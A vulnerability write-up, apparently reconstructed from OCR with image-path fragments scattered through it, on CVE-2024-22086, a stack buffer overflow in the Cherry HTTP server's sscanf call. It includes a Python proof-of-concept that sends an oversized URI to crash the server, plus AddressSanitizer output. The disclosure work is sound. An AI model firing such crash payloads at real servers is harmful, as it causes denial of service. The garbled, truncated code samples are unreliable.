Zero-Day Research: CVE-2024-22086 Cherry HTTP Server Remote Buffer Overflow


Remote buffer overflows stand out for their notoriety and the sheer impact they can have on systems worldwide. These vulnerabilities, though longstanding in the realm of computer security, continue to pose significant challenges and risks. At their core, remote buffer overflows occur when an application receives more data than it can handle, causing it to overflow and overwrite adjacent memory spaces. This seemingly simple fault has the potential to unleash catastrophic outcomes, ranging from system crashes to unauthorized access and control by malicious entities. The essence of this threat lies in its exploitation from afar, where attackers can remotely trigger these vulnerabilities without physical access to the victim system.

The threat of remote buffer overflows is particularly pronounced in HTTP servers, which are the bedrock of the modern internet. These servers, constantly interacting with unpredictable and uncontrolled external data, are prime targets for such attacks. Historically, some of the most high-profile security breaches have been attributed to remote buffer overflowvulnerabilities in these servers. In this blog post, we will delve into the anatomy of remote buffer overflows, dissecting how they occur, the implications they carry, and the defenses that can be mounted against them. This discussion aims not only to enlighten developers about the dangers and mechanics of these vulnerabilities but also to provide actionable insights into how organizations and individuals can fortify their defenses against this enduring cyber threat.

What is a Remote Buffer Overflow?

A buffer overflow occurs when a program attempts to store more data in a buffer (a temporary data storage area) than it was intended to hold. When this excess data overflows into adjacent buffers, it can corrupt or overwrite the valid data, leading to erratic program behavior or system crashes.

In the context of HTTP servers, a remote buffer overflow is particularlymenacing. Attackers exploit vulnerabilities over the network to execute arbitrary code on the server. This can lead to unauthorized access, data theft, or even full control over the server.

How Do Buffer Overflows Happen in HTTP Servers?

HTTP servers, by design, handle numerous requests from clients. These requests and the associated data are processed and stored in buffers. Vulnerabilities typically arise due to:

  1. Improper Input Validation: If the server fails to adequately check the size of the input against the buffer’s capacity, an overflow is possible.
  2. Insecure Coding Practices: Languages like C and C++, commonly used in HTTP server development, do not inherently manage memory, leading to potential bufferoverflows.

Historical Examples and Their Impact

Several high-profile incidents have underscored the severity of buffer overflow vulnerabilities in HTTP servers:

  • Apache HTTP Server – mod_ssl Off-By-One Buffer Overflow (CVE-2002-0082):
    • Year: 2002• Description: A buffer overflow vulnerability in the mod_ssl module of Apache HTTP Server allowed remote attackers to execute arbitrary code via a malformed client master key in an SSL session.
    • Impact: Potential for remote code execution and compromise of server integrity.
  • Lighttpd FastCGI Buffer Overflow (CVE-2011-4362):
    • Year: 2011
    • Description: A buffer overflow in the mod_fastcgi module of Lighttpd could be triggered by sending specially crafted headers, leading to a potential remote exploit.
    • Impact: Server crashes and potential for remote code execution.
  • IBM HTTP Server mod_rewrite Buffer Overflow (CVE-2006-3747):
    • Year: 2006
    • Description: The mod_rewrite module in the IBM HTTP Server had a buffer overflow vulnerability that could be exploited via a URL with a long hostname.
    • Impact: Remote code execution and server compromise.
  • Oracle HTTP Server Buffer Overflow in Apache Connector (CVE-2005-0078):
    • Year: 2005
    • Description: A vulnerability in the Oracle HTTP Server, stemming from the Apache Connector, allowed remote attackers to execute arbitrary code via a long request.
    •Impact: Server compromise and data breach potential.

Buffer Overflow Review

The following section is a review of buffer overflows in C and provides a simple example demonstrating this vulnerability. If you already have a deep understanding of buffer overflows in the C programming language, feel free to jump down to the description of CVE-2024-22086.

Why C is Vulnerable?

C doesn’t inherently check the bounds of buffers, relying instead on the programmer to manage memory. While providing flexibility and efficiency, this characteristic opens the door to buffer overflow vulnerabilities if the programmer does not meticulously manage and validate buffer sizes.Below is a simple example of a buffer overflow in C:

#include <stdio.h>
#include <string.h>

void vulnerableFunction(char *str) {
    char password[10];
    char buffer[10];
    strcpy(buffer, str); // Copy the string into buffer without checking size

int main() {
    // An overly long string
    char largeString[100] = "ThisStringIsWayTooLongAndWillOverflowTheBufferCausingPotentialSecurityIssues";

    printf("After vulnerableFunction call\n");return 0;

Explanation of the vulnerable code:

  • Function vulnerableFunction: This function has a buffer named buffer of 10 characters. It uses strcpy() to copy the input string str into buffer.
  • Vulnerability: The strcpy() function does not check if str will fit into buffer. If str is longer than 9 characters (plus the null terminator), it will overflow buffer.
  • In main(): largeString is defined with 100 characters, which is far longer than the 10-character buffer in vulnerableFunction.
  • Result: When vulnerableFunction(largeString) is called, it leads to a buffer overflow as largeString is copied into buffer. Any adjacent memory will be overwritten by the large buffer, which could corrupt data or crash the program. In this particular example, thechar array named ‘password’ would be overwritten with data from ‘largeString’.

Typical Scenarios

Remote buffer overflows commonly occur in network services or applications that receive data over a network, like web servers, email servers, or FTP servers. If these applications are written in C and don’t properly check the length of user-defined input received over the network, they can be susceptible to buffer overflow attacks.


Cherry, initially inspired by the Capriccio project and the Zaver HTTP server, began as an experimental endeavor aiming to integrate cooperative threading, also known as fibers or coroutines, into server architecture. Despite its ambitions, Cherry faced challenges in matching the performance levels achieved by the Capriccio project, finding that achieving such efficiency can be complex.

At its core, Cherry is a straightforward HTTP server optimized for unicore performance, emphasizing efficiency through FSM (finite state machine) scheduling and I/O multiplexing using epoll. Its design philosophy revolves around a single control flow for unicore servers, minimizing blocking operations to achieve a level of concurrency akin to cooperative threading. Cherry employs epoll for I/O multiplexing, a queue for ready file descriptors, and a finite state machine for scheduling. However, its use of edge-triggered epoll necessitates complete reading of file descriptors in one operation, which might lead to the starvation of other queued descriptors. Cherry serves as a valuable platform for experimenting with new ideas, even if it may not evolve into a major server.While executing my fuzz tests against the Cherry HTTP Server, I discovered a remote stack buffer overflow vulnerability in handle_request() at http.c, line 54. This vulnerability affects all versions of Cherry through commit 4b877df. The vulnerable source code can be seen below:

sscanf(buf, "%s %s %s", method, uri, version);

I have outlined the reproduction steps below, and offer some mitigations that can be implemented to prevent a buffer overflow.

Makefile Modifications

The following modifications were made to the Makefile to compile Cherry with address sanitizer and debug symbols. The purpose of this is to track and verify the location of the stack buffer overflow vulnerability:

CFLAGS= -Wall -Wextra -DLOG_USE_COLOR -fsanitize=address -g.PHONY: clean

cherry: server.c log.c rio.c http.c epoll.c task.c utils.c
    $(CC) $^ -o $@ $(CFLAGS)

    rm cherry a.out

Compiling Cherry

After modifying the Makefile, the project can be compiled by executing the following commands on the command line:

$ make

Proof of Concept Python3 Script

Save the following script to a file named The script will send an HTTP request with a malformed URI (2,000,000 bytes long) to Cherry and wait for a response:

#!/usr/bin/env python3

import socket

sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)sock.connect(("localhost", 3333))
sock.send(b"GET /"+b"C"*2000000+b"HTTP/1.1\r\nHost:localhost:3333\r\n\r\n")
response = sock.recv(4096)

Starting Cherry

$ ./cherry

Executing our Python3 Script

$ python3

Address Sanitizer Output

The following output is produced by address sanitizer, confirming the existence of the buffer overflow. AddressSanitizer (ASan) is a memory error detector tool used for identifying memory-related bugs in software programs. It is primarily designed to catch memory corruption issues, such as buffer overflows, use-after-free errors, and memory leaks, which can lead to security vulnerabilities or program crashes:==3024==ERROR: AddressSanitizer: stack-buffer-overflow on address 0x7fcf196002f0 at pc 0x7fcf1b087791 bp 0x7ffc4e0bf090 sp 0x7ffc4e0be850
WRITE of size 8188 at 0x7fcf196002f0 thread T0
    #0 0x7fcf1b087790 in scanf_common ../../../../src/libsanitizer/sanitizer_common/
    #1 0x7fcf1b0883fe in __interceptor___isoc99_vsscanf ../../../../src/libsanitizer/sanitizer_common/
    #2 0x7fcf1b0884ee in __interceptor___isoc99_sscanf ../../../../src/libsanitizer/sanitizer_common/
    #3 0x55a0ffa0561d in handle_request /home/kali/projects/fuzzing/cherry/src/http.c:54
    #4 0x55a0ffa072c7 in request_handler /home/kali/projects/fuzzing/cherry/src/utils.c:57
    #5 0x55a0ffa03908 in main /home/kali/projects/fuzzing/cherry/src/server.c:69
    #6 0x7fcf1ae456c9 in __libc_start_call_main ../sysdeps/nptl/libc_start_call_main.h:58
    #7 0x7fcf1ae45784 in __libc_start_main_impl ../csu/libc-start.c:360
    #8 0x55a0ffa03450 in _start (/home/kali/projects/fuzzing/cherry/src/cherry+0x4450) (BuildId: f07795ccbe440d35fcd7b1ea59114aa3d9bc6d55)

Address 0x7fcf196002f0 is located in stack of thread T0 at offset 752 in frame
    #0 0x55a0ffa05370 in handle_request /home/kali/projects/fuzzing/cherry/src/http.c:35

  This frame has 7 object(s):[32, 176) 'sbuf' (line 41)
    [240, 752) 'uri' (line 37)
    [816, 1328) 'version' (line37) <== Memory access atoffset 752 partially underflows this variable
    [1392, 1904) 'filename' (line 40) <== Memory access at offset 752 partially underflows this variable
    [1968, 10160) 'method' (line 37) <== Memory access at offset 752 partially underflows this variable
    [10416, 18608) 'buf' (line 38)
    [18864, 27072) 'rio' (line 36)
HINT: this may be a false positive if your program uses some custom stack unwind mechanism, swapcontext or vfork
      (longjmp and C++ exceptions *are* supported)
SUMMARY: AddressSanitizer: stack-buffer-overflow ../../../../src/libsanitizer/sanitizer_common/ in scanf_common
Shadow bytes around the buggy address:
  0x7fcf19600000: f1 f1 f1 f1 00 00 00 00 00 00 00 00 00 00 00 00
  0x7fcf19600080: 00 00 00 00 00 00 f2 f2 f2 f2 f2 f2 f2 f2 00 00
  0x7fcf19600100: 00 00 00 00 00 00 00 00 00 00 00 00 00 00 00 00
  0x7fcf19600180: 00 00 00 00 00 00 00 00 00 00 00 00 00 00 00 00
  0x7fcf19600200: 00 00 00 00 00 00 00 00 00 00 00 00 00 00 00 00
=>0x7fcf19600280: 00 00 00 00 00 00 00 00 00 00 00 00 00 00[f2]f2
  0x7fcf19600300: f2f2 f2 f2 f2 f2 00 00 00 00 00 00 00 00 00 00
  0x7fcf19600380: 00 00 00 00 00 00 00 00 00 00 00 00 00 00 00 00
  0x7fcf19600400: 00 00 00 00 00 00 00 00 00 00 00 00 00 00 00 00
  0x7fcf19600480: 00 00 00 00 00 00 00 00 00 00 00 00 00 00 00 00
  0x7fcf19600500: 00 00 00 00 00 00 f2 f2 f2 f2 f2 f2 f2 f2 00 00
Shadow byte legend (one shadow byte represents 8 application bytes):
  Addressable:           00
  Partially addressable: 01 02 03 04 05 06 07
  Heap left redzone:       fa
  Freed heap region:       fd
  Stack left redzone:      f1
  Stack mid redzone:       f2
  Stack right redzone:     f3
  Stack after return:      f5
  Stack use after scope:   f8
  Global redzone:          f9
  Global init order:       f6
  Poisoned by user:        f7
  Container overflow:      fc
  Array cookie:            ac
  Intra object redzone:    bb
  ASan internal:           fe
  Left alloca redzone:     ca
  Right alloca redzone:    cb

Let’s break down the key parts of this output for clarity:

1. Error Identification:

ERROR: AddressSanitizer: stack-buffer-overflow on address 0x7fcf196002f0

ASan has detected a stackbuffer overflow at the specified memory address.

2. Location and Cause:

  • The overflow occurs during a ‘WRITE of size 8188’ bytes at the address ‘0x7fcf196002f0’ in ‘thread T0’.
  • The call stack traces the error backto its origin.
  • It starts with ‘scanf_common’ (as part of a ‘scanf’ operation) which is a common point of vulnerability for buffer overflows due to unbounded input operations.
  • The error trace includes the specific function in the code (‘handle_request’ in ‘http.c’ at line 54) where the problematic ‘scanf’ call occurs.

3. Context of the Overflow:

  • Address ‘0x7fcf196002f0’ is located in the stack of ‘thread T0’ at an offset of 752 bytes in the ‘handle_request’ function frame.
  • The memory layout around this address is detailed, showing which local variables are present in the function’s stack frame and their memory ranges.
  • Notably, the variables ‘uri’, ‘version’, and ‘method’ are identified as being at risk of underflow, which means the write operation at the overflow address is affecting these variables.

4. Hints and Summary:

  • The summary reaffirms the type of error: ‘stack-buffer-overflow’ in the ‘scanf_common’ function.

5. Shadow Bytes:

  • The ‘shadow bytes’ around the buggy address provide a more detailed view of the memory layout and status. Each shadow byte represents 8 application bytes, and the symbols (like `f1`, `f2`, `f3`, etc.) indicate different statuses of these bytes (e.g., whether they are addressable, part of a heap region, stack redzone, etc.).

6. Abort Statement:

  • The process is aborted as a result of this error, as indicated by:


